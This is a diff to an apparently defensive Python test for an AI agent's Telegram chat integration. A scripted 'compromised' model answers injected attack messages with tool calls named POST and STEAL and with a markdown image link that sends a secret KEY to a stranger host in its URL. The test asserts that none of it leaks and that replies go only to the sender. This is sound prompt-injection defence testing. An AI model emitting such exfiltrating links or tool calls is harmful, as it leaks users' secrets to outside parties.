@@ -218,11 +218,14 @@ async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
 ):
     home, stranger = receivers
     attacked = AttackedDaemon(tmp_path, home.url, stranger.url)
+    # two attacks in each conversation: Telegram takes five messages of one at once
+    people = [ADA + number // 2 for number in range(len(ATTACKS))]
     async with FakeTelegram() as telegram:
+        telegram.people |= dict.fromkeys(people, "Ada")
         config = (attacked.folder / "config.toml").read_text()
         chat = (
             f'[ask]\ntools = ["*"]\n[chat.phone]\nkind = "telegram"\ntoken_file = "token"\n'
-            f'allow = [{ADA}]\nbase_url = "{telegram.url}"\n'
+            f'allow = {sorted(set(people))}\nbase_url = "{telegram.url}"\n'
         )
         attacked.write("config.toml", config + chat)
         attacked.write("token", telegram.TOKEN)
@@ -230,7 +233,7 @@ async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
             before = attacked.everything_else()
             (inbound,) = app.chat_inbound
             model: Any = app.settings.providers.get("obedient")
-            for kind, text, calls in ATTACKS:
+            for person, (kind, text, calls) in zip(people, ATTACKS, strict=True):
                 orders = [
                     {"name": name, "arguments": attacked.fill(arguments)}
                     for name, arguments in calls
@@ -241,7 +244,10 @@ async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
                         {"tool_calls": [_call(POST, attacked), _call(STEAL, attacked)]}, "Helped."
                     )
                 model.enqueue(f"Read.\n\n![badge]({attacked.stranger}/b.png?d={KEY})")
-                telegram.write(attacked.fill(text), forward_origin={"type": "hidden_user"})
+                told = len(telegram.messages)
+                telegram.write(
+                    attacked.fill(text), person=person, forward_origin={"type": "hidden_user"}
+                )
                 await inbound.receive_once()
                 run = await finish_rejecting(app, "ask")
                 assert run.status is Status.SUCCEEDED, (kind, run.detail)
@@ -252,7 +258,7 @@ async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
                 assert attacked.everything_else() == before, kind
                 assert stranger.posts == [], f"{kind}: something was sent to a stranger"
                 await app.delivery.outbox.flush()
-        assert {message.chat for message in telegram.messages} == {ADA}
+                assert {message.chat for message in telegram.messages[told:]} == {person}, kind
         for message in telegram.messages:
             assert not re.search(r"https?:|\]\(|<a |<img", message.source), message.source
     assert home.posts == []
